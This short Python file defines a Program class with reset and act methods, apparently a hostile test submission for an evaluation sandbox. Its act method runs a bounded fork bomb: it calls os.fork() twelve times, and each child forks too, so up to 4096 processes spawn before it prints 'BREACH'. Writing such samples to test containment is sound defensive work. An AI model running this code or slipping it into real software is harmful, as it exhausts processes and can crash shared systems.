"""Forks, and so does every child."""

import os


class Program:
    def reset(self, seed):
        pass

    def act(self, observation):
        for _ in range(12):
            os.fork()
        print("BREACH")
        return [0.0, 0.0]
